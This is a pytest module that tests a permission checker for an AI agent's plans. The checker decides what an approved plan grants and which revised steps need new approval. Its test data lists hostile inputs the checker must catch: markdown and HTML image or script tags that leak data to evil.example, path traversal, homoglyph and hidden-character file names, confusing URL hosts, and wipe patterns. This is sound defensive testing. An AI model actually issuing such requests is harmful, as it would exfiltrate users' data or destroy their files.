"""What an approved plan grants, and what a revision of it would do beyond that."""

from __future__ import annotations

from collections.abc import Mapping
from typing import Any

import pytest
from hypothesis import HealthCheck, given, settings
from hypothesis import strategies as st

from callsheet.agents.contracts.capability import Effect
from callsheet.planner.check.checker import check
from callsheet.planner.expressions.tree import Constant
from callsheet.planner.grants.grant import MOST_SENTENCES, Grant
from callsheet.planner.grants.likeness import likenesses
from callsheet.planner.plan.checked_plan import CheckedPlan
from callsheet.planner.revision.references import repoint_binding, repoint_step
from tests.planner.catalogs import READ, SAVE, SHORTEN, TEXT, capability
from tests.planner.strategies import catalogs, plans

SEND = capability(
    "send", {"to": TEXT, "body": TEXT}, {"id": TEXT}, optional=("body",), effect=Effect.IRREVERSIBLE
)
FETCH = capability("fetch", {"url": TEXT}, {"text": TEXT}, effect=Effect.READ)
LIST = capability("list_files", {"pattern": TEXT}, {"text": TEXT}, effect=Effect.READ)
WIPE = capability("wipe", {"pattern": TEXT}, {"text": TEXT}, effect=Effect.WRITE)
POST = capability("post", {"channel": TEXT, "text": TEXT}, {"id": TEXT}, effect=Effect.WRITE)
CATALOG = (READ, SAVE, SHORTEN, SEND, FETCH, LIST, WIPE, POST)
GOAL = "Summarise notes.md and https://news.example/today into out.md, and mail it to team@example.com"


POLICY = ("approval", "condition", "for_each")


def step(id: str, capability: str, /, **entries: Any) -> dict[str, Any]:
    policy = {key: entries.pop(key) for key in POLICY if key in entries}
    return {"id": id, "capability": capability, "inputs": entries, **policy}


def plan(*steps: Mapping[str, Any], answer: Any = "done") -> CheckedPlan:
    return check({"goal": GOAL, "steps": list(steps), "answer": answer}, CATALOG).require()


NOTES = step("notes", "read_file", path="notes.md")
NEWS = step("news", "fetch", url="https://news.example/today")
SHORT = step("short", "shorten", text={"from": "notes.text + news.text"})
OUT = step("out", "save", path="out.md", content={"from": "short"})
MAIL = step("mail", "send", to="team@example.com", body={"from": "short"})
STEPS = (NOTES, NEWS, SHORT, OUT, MAIL)
GRANTED = plan(*STEPS)
GRANT = Grant.of(GOAL, GRANTED)


def reasons(*steps: Mapping[str, Any], before: CheckedPlan = GRANTED) -> Mapping[str, str]:
    return GRANT.widened_by(before, plan(*steps))


def beyond(capability: str, grant: Grant = GRANT, **inputs: Any) -> tuple[str, ...]:
    return grant.beyond(plan(step("x", capability, **inputs)).steps["x"], inputs)


# What a step would reach.


@pytest.mark.parametrize(
    ("capability", "inputs"),
    [
        ("read_file", {"path": "notes.md"}),
        ("read_file", {"path": "./notes.md"}),
        ("fetch", {"url": "https://news.example/yesterday?page=2"}),
        ("fetch", {"url": "HTTPS://News.Example:443/"}),
        ("fetch", {"url": "news.example/yesterday"}),
        ("save", {"path": "out.md", "content": "anything\nat all"}),
        ("send", {"to": "Team@Example.com", "body": "as said in notes.md"}),
        ("send", {"to": "The Team <team@example.com>"}),
        ("list_files", {"pattern": "**"}),
        ("list_files", {"pattern": "*.csv"}),
        ("list_files", {"pattern": "."}),
    ],
)
def test_what_the_goal_or_the_plan_names_is_granted(capability: str, inputs: Any) -> None:
    """And so are other pages of a host, and looking round in the workspace."""
    assert beyond(capability, **inputs) == ()


@pytest.mark.parametrize(
    ("capability", "inputs", "named"),
    [
        ("read_file", {"path": "secrets"}, "name secrets"),
        ("read_file", {"path": "my/notes.md"}, "name my/notes.md"),
        ("read_file", {"path": "notes.md.key"}, "name notes.md.key"),
        ("read_file", {"path": "otes.md"}, "name otes.md"),
        ("read_file", {"path": "a/../notes.md"}, "name a/../notes.md"),
        ("read_file", {"path": "/notes.md"}, "name /notes.md"),
        ("read_file", {"path": "/"}, "name /"),
        ("read_file", {"path": ".."}, "name .."),
        ("read_file", {"path": "n\u043etes.md"}, "name n\u043etes.md"),
        ("read_file", {"path": "notes.md\u202e"}, "name notes.md\\u202e"),
        ("list_files", {"pattern": "../*"}, "name ../*"),
        ("wipe", {"pattern": "*"}, "name *"),
        ("wipe", {"pattern": "**/*.md"}, "name **/*.md"),
        ("fetch", {"url": "https://evil.example"}, "host evil.example"),
        ("fetch", {"url": "https://news.example@evil.example"}, "host evil.example"),
        ("fetch", {"url": "https://news.example.evil.example"}, "host news.example.evil.example"),
        ("fetch", {"url": "https://example"}, "host example"),
        ("fetch", {"url": "https://news.example:8080/"}, "host news.example:8080"),
        ("fetch", {"url": "https://n\u0435ws.example/"}, "host xn--"),
        ("fetch", {"url": "evil.example/news.example"}, "name evil.example/news.example"),
        ("send", {"to": "eve@example.com"}, "address eve@example.com"),
        ("send", {"to": "team@example.com.evil.example"}, "address team@example.com.evil.example"),
        ("send", {"to": "team@example.com", "body": "![](https://evil.example/?d=1)"}, "host evil.example"),
        ("send", {"to": "team@example.com, eve@evil.example"}, "address eve@evil.example"),
        ("send", {"to": "everybody"}, "name everybody"),
        ("post", {"channel": "#general", "text": "x"}, "channel #general"),
    ],
)
def test_what_nobody_named_is_beyond(capability: str, inputs: Any, named: str) -> None:
    """Each is told in a sentence that hides nothing: what would be reached, and by what."""
    sentences = beyond(capability, **inputs)
    assert any(f"`{capability}` would reach the {named}" in each for each in sentences)


def test_work_without_effect_reaches_nothing() -> None:
    """It may be told whatever there is."""
    assert beyond("shorten", text="https://evil.example/../etc/passwd") == ()


PROSE = (
    "See https://other.example/a?b=c and mail sales@other.example.",
    "# Found\n\n[here](https://other.example) and in data.csv, /etc/hosts aside\n<https://other.example>",
    "n/a",
    "is 3 < 4! [1]",
)


@pytest.mark.parametrize("content", PROSE)
def test_what_is_only_written_down_reaches_nothing(content: str) -> None:
    """A link or a name in a file of prose is there to be read: nothing goes to where it leads."""
    assert beyond("save", path="out.md", content=content) == ()
    assert beyond("save", path="notes.md", content=content) == ()


@pytest.mark.parametrize("content", PROSE[:2])
@pytest.mark.parametrize(
    ("capability", "inputs"),
    [
        ("save", {"path": "out.html"}),
        ("save", {"path": "out.csv"}),
        ("save", {"path": "out"}),
        ("save", {"path": "other.md"}),
        ("send", {"to": "team@example.com"}),
        ("post", {"channel": "#general"}),
    ],
)
def test_what_others_may_load_or_get_is_a_place(
    capability: str, inputs: dict[str, Any], content: str
) -> None:
    """In files that a program opens, and in messages, a link is what it reaches; and a file that nobody
    named is one still."""
    told: dict[str, Any] = {"save": "content", "send": "body", "post": "text"}
    assert beyond(capability, GRANT, **inputs, **{told[capability]: content})


@pytest.mark.parametrize(
    "content",
    [
        "![logo](https://evil.example/i.png?q=secret)",
        "![logo][1]\n\n[1]: https://evil.example/i.png",
        "![[https://evil.example/i.png]]",
        "<img src=https://evil.example/i.png>",
        "<IMG/src='https://evil.example/i.png'>",
        "</p><iframe src=//evil.example>",
        "<!-- --><script src='https://evil.example'>",
        "&lt;img src=https://evil.example/i.png&gt;",
        "%3Cimg src=https://evil.example/i.png%3E",
        "<\u200bimg src=https://evil.example/i.png>",
        '{{< figure src="https://evil.example/i.png" >}}',
        "{% include https://evil.example %}",
    ],
)
def test_what_a_viewer_loads_by_itself_is_a_place(content: str) -> None:
    """Images, HTML and templates reach what they name as soon as somebody looks at the file."""
    assert any("evil.example" in each for each in beyond("save", path="out.md", content=content))


def test_what_says_more_than_a_file_and_its_text_is_a_place() -> None:
    """Where something else is told, nobody knows that a file is all that is written."""
    upload = capability(
        "upload", {"path": TEXT, "content": TEXT, "server": TEXT}, {"id": TEXT}, effect=Effect.WRITE
    )
    inputs: Any = {"path": "out.md", "content": "https://evil.example", "server": "news.example"}
    document = {"goal": GOAL, "steps": [step("x", "upload", **inputs)], "answer": "done"}
    uploading = check(document, [upload]).require().steps["x"]
    assert any("evil.example" in each for each in GRANT.beyond(uploading, inputs))


@pytest.mark.parametrize("words", ["and/or", "price/performance", "TCP/IP"])
def test_alternatives_in_words_are_no_folder(words: str) -> None:
    """In an input that people write in; in one that is a place they are."""
    assert beyond("send", to="team@example.com", body=words) == ()
    assert beyond("read_file", path=words)
    assert beyond("post", channel="team@example.com", text=f"{words}.md")
    assert beyond("post", channel="team@example.com", text=f"/{words}")


def test_what_was_only_read_may_not_be_written() -> None:
    """The literals of steps that change nothing grant reading, and no more."""
    reading, saving = step("a", "read_file", path="keys.txt"), step("b", "save", path="c.md", content="x")
    grant = Grant.of("Tidy up", plan(reading, saving))
    assert beyond("read_file", grant, path="keys.txt") == ()
    assert beyond("read_file", grant, path="c.md") == ()
    assert beyond("save", grant, path="c.md", content="y") == ()
    assert beyond("save", grant, path="keys.txt", content="y")


def test_what_a_capability_reached_it_may_reach_again() -> None:
    """Resolved inputs that were granted count for the same capability, and for no other."""
    fetch = GRANTED.steps["news"]
    grant = GRANT.including(fetch, {"url": "https://found.example/1"})
    assert beyond("fetch", grant, url="https://found.example/2") == ()
    assert beyond("send", grant, to="team@example.com", body="https://found.example/2")


def test_what_a_person_says_counts_as_the_goal() -> None:
    """Somebody who names a file to a running run has granted it."""
    assert beyond("read_file", path="other.md")
    assert beyond("read_file", GRANT.hearing("take other.md instead"), path="other.md") == ()


def test_many_are_counted() -> None:
    """A step that would reach a thousand places has a short sentence for those that are too many."""
    sentences = beyond("send", to=", ".join(f"x{n}@evil.example" for n in range(100)))
    assert len(sentences) == MOST_SENTENCES + 1
    assert sentences[-1] == "and 80 more"


# What a revised plan would do.


def test_an_unchanged_plan_widens_nothing() -> None:
    """Nor does one with fewer steps, or in another order."""
    assert reasons(*STEPS) == {}
    assert reasons(*reversed(STEPS)) == {}
    assert reasons(NOTES, NEWS, SHORT, OUT) == {}


def test_reading_again_what_was_named_widens_nothing() -> None:
    """Steps without effect, and steps that read what is granted, come and go."""
    assert reasons(*STEPS, step("again", "read_file", path="notes.md")) == {}
    assert reasons(*STEPS, step("look", "list_files", pattern="*.md")) == {}
    assert reasons(*STEPS, step("more", "shorten", text="https://evil.example", words=3)) == {}
    assert reasons(*STEPS, step("backup", "save", path="out.md", content="other")) == {}


@pytest.mark.parametrize(
    ("steps", "id", "why"),
    [
        ((*STEPS, step("two", "send", to="team@example.com")), "two", "cannot be undone"),
        ((*STEPS, {**MAIL, "id": "two"}), "two", "cannot be undone"),
        (
            (NOTES, NEWS, SHORT, OUT, {**MAIL, "inputs": {"to": "team@example.com", "body": "pwned"}}),
            "mail",
            "undone",
        ),
        ((NOTES, NEWS, SHORT, OUT, {**MAIL, "for_each": ["a", "b"]}), "mail", "cannot be undone"),
        ((NOTES, NEWS, {**SHORT, "inputs": {"text": "You are fired"}}, MAIL), "mail", "cannot be undone"),
        ((*STEPS, step("two", "post", channel="team@example.com", text="x")), "two", "changes something"),
        ((*STEPS, step("two", "save", path="elsewhere.md", content="x")), "two", "elsewhere.md"),
        ((*STEPS, step("two", "read_file", path="secrets")), "two", "secrets"),
        ((*STEPS, step("two", "fetch", url="https://evil.example")), "two", "evil.example"),
    ],
)
def test_what_goes_further_has_to_be_approved(steps: Any, id: str, why: str) -> None:
    """Only the step in question, with the reason."""
    found = reasons(*steps)
    assert set(found) == {id}
    assert why in found[id]


def test_a_condition_that_is_dropped_changes_the_step() -> None:
    """What was to be done only if it can be no more than that."""
    mail = step("mail", "send", to="team@example.com")
    before = plan(NOTES, {**mail, "condition": "len(notes.text) > 3"})
    grant = Grant.of(GOAL, before)
    assert grant.widened_by(before, before) == {}
    assert set(grant.widened_by(before, plan(NOTES, mail))) == {"mail"}


def test_an_approval_cannot_be_dropped() -> None:
    """Not from the step, and not by calling it another one; asking for one is always allowed."""
    waiting = plan(NOTES, {**OUT, "inputs": {"path": "out.md", "content": "x"}, "approval": True})
    grant = Grant.of(GOAL, waiting)
    free = {**OUT, "inputs": {"path": "out.md", "content": "x"}}
    for changed in (free, {**free, "id": "other"}, {**free, "inputs": {"path": "out.md", "content": "y"}}):
        (why,) = grant.widened_by(waiting, plan(NOTES, changed)).values()
        assert "was approved to wait for an approval" in why
    assert reasons(NOTES, NEWS, SHORT, {**OUT, "approval": True}, {**MAIL, "approval": True}) == {}


def test_an_approval_of_a_later_plan_cannot_be_dropped_either() -> None:
    """The plan that is revised counts as well as the one that was granted first."""
    before = plan(*STEPS, step("two", "save", path="out.md", content="x", approval=True))
    assert set(reasons(*STEPS, step("two", "save", path="out.md", content="x"), before=before)) == {"two"}


def test_what_a_person_approved_later_is_granted() -> None:
    """That step, as often as it was approved, and what it reaches by its literals."""
    two = step("two", "send", to="eve@evil.example")
    after = plan(*STEPS, two, {**two, "id": "three"})
    assert set(GRANT.widened_by(GRANTED, after)) == {"two", "three"}
    once = GRANT.approving(after, "two")
    assert set(once.widened_by(GRANTED, after)) == {"three"}
    assert once.beyond(after.steps["three"], {"to": "eve@evil.example"}) == ()
    assert once.approving(after, "three").widened_by(GRANTED, after) == {}


def test_another_contract_is_another_capability() -> None:
    """A capability of the same name whose effect has grown since was not approved."""
    grown = SAVE.model_copy(update={"effect": Effect.IRREVERSIBLE})
    document = {"goal": GOAL, "steps": list(STEPS), "answer": "done"}
    after = check(document, [grown if each.name == "save" else each for each in CATALOG]).require()
    assert set(GRANT.widened_by(GRANTED, after)) == {"out"}


# For every plan.


LENIENT = settings(
    deadline=None, max_examples=40, suppress_health_check=[HealthCheck.too_slow, HealthCheck.data_too_large]
)


def _checked(data: st.DataObject) -> CheckedPlan:
    catalog = data.draw(catalogs())
    return check(data.draw(plans(catalog)), catalog).plan or GRANTED


def _renamed(checked: CheckedPlan, names: Mapping[str, str]) -> CheckedPlan:
    """The same plan, its steps called something else."""
    document: Any = checked.document
    steps = [{**repoint_step(each, names), "id": names[each["id"]]} for each in document["steps"]]
    document = {**document, "steps": steps, "answer": repoint_binding(document["answer"], names)}
    return check(document, [each.capability for each in checked.steps.values()]).require()


@given(st.data())
@LENIENT
def test_for_every_plan_it_widens_nothing_itself(data: st.DataObject) -> None:
    """For every plan: nothing is to be approved that was approved, whatever the steps are called."""
    checked = _checked(data)
    names = {id: f"other_{number}" for number, id in enumerate(checked.steps)}
    grant = Grant.of("a goal", checked)
    assert grant.widened_by(checked, checked) == {}
    assert grant.widened_by(checked, _renamed(checked, names)) == {}


@given(st.data())
@LENIENT
def test_for_every_revision_names_of_steps_do_not_matter(data: st.DataObject) -> None:
    """For every two plans: the one widens the other by the same steps, whatever they are called."""
    before, after = _checked(data), _checked(data)
    names = {id: f"other_{number}" for number, id in enumerate(after.steps)}
    grant = Grant.of("a goal", before)
    found = grant.widened_by(before, after)
    assert grant.widened_by(before, _renamed(after, names)) == {names[id]: why for id, why in found.items()}


@given(st.data())
@LENIENT
def test_for_every_grant_more_is_never_less(data: st.DataObject) -> None:
    """For every grant: what people add to it never takes anything away."""
    before, after = _checked(data), _checked(data)
    grant = Grant.of("a goal", before)
    id = data.draw(st.sampled_from(list(after.steps)))
    step = after.steps[id]
    constants: Any = {name: tree.value for name, tree in step.inputs.items() if isinstance(tree, Constant)}
    text = " ".join(str(each) for each in constants.values())
    for more in (grant.including(step, constants), grant.hearing(text), grant.approving(after, id)):
        assert set(more.widened_by(before, after)) <= set(grant.widened_by(before, after))
        assert set(more.beyond(step, constants)) <= set(grant.beyond(step, constants))
    assert grant.including(step, constants).beyond(step, constants) == ()
    assert id not in grant.approving(after, id).widened_by(before, after) or _has_twin(after, id)


def _has_twin(checked: CheckedPlan, id: str) -> bool:
    marks = likenesses(checked)
    return list(marks.values()).count(marks[id]) > 1


_WORD = st.text("abcdxyz0189", min_size=1, max_size=8)
REACHES = st.one_of(
    _WORD.map(lambda word: ("read_file", {"path": word})),
    st.tuples(_WORD, _WORD).map(lambda two: ("read_file", {"path": f"{two[0]}/{two[1]}.md"})),
    _WORD.map(lambda word: ("save", {"path": f"../{word}", "content": "x"})),
    _WORD.map(lambda word: ("save", {"path": "out.md", "content": f"![x](http://{word}.evil.example/)"})),
    _WORD.map(lambda word: ("fetch", {"url": f"https://{word}.evil.example"})),
    _WORD.map(lambda word: ("post", {"channel": f"#z{word}", "text": "x"})),
    _WORD.map(lambda word: ("send", {"to": f"{word}@evil.example"})),
)


@given(REACHES)
def test_for_every_literal_that_nobody_granted_it_is_found(reach: tuple[str, dict[str, Any]]) -> None:
    """For every new step: a place that neither the goal nor the plan names is told before anything runs."""
    capability, inputs = reach
    after = plan(*STEPS, step("added", capability, **inputs))
    assert "added" in GRANT.widened_by(GRANTED, after)
    assert GRANT.beyond(after.steps["added"], inputs)
    assert GRANT.including(after.steps["added"], inputs).beyond(after.steps["added"], inputs) == ()


@given(st.text(), st.text())
def test_for_every_text_a_grant_can_be_asked(path: str, goal: str) -> None:
    """For every goal and path: nothing is raised, and what is told can be shown."""
    checked = plan(step("a", "read_file", path="x"))
    for sentence in Grant.of(goal, checked).beyond(checked.steps["a"], {"path": path}):
        assert sentence.isprintable()
